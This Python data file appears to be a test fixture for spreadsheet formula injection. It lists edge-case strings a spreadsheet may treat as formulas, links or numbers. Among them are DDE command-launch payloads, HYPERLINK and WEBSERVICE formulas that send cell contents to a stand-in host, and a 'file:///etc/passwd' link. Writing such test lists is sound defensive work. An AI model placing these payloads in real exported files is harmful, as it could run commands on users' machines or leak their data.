"""Sixty texts that a spreadsheet may take for a formula, a command, a link or a number."""

FORMULAS = (
    "=1+1", "=SUM(A1:A9)", "=A1", "= 1+1", "==1", "=cmd|' /C calc'!A0", "=1+1+cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?x="&A1,"bấm")', '=WEBSERVICE("http://192.0.2.1/"&B2)',
    '=IMPORTXML("http://192.0.2.1","//a")', '=IMPORTDATA("http://192.0.2.1")',
    '=IMAGE("http://192.0.2.1/a.png")', '=DDE("cmd";"/C calc";"x")', "=MSEXCEL|'\\..\\cmd'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=@SUM(1+1)*cmd|' /C calc'!A0", "=NOW()",
    '=INDIRECT("A"&1)', "={1;2}", "=TRUE", '="=1"', "='Sheet 1'!A1", "=[x.xlsx]Sheet1!A1",
    "+1+1", "+84 228 3849", "+A1", "+cmd|' /C calc'!A0", "++1", "+", "-1", "-1+1", "-A1",
    "-2+3+cmd|' /C calc'!D2", "- gạch đầu dòng", "--", "-", "@SUM(1+1)", "@A1", "@đồng chí", "@",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    "'=1+1", '"=1+1"', "=", "%0A=1+1", ";=1+1", ",=1+1", "|=1+1",
    "http://192.0.2.1/", "mailto:a@example.org", "internal:Sheet1!A1", "external:c:\\a.xlsx",
    "file:///etc/passwd", "1e5", "007", "1,5", "12/11/2026", "TRUE", "#REF!", "_x0041_", "{=1+1}",
)  # fmt: skip
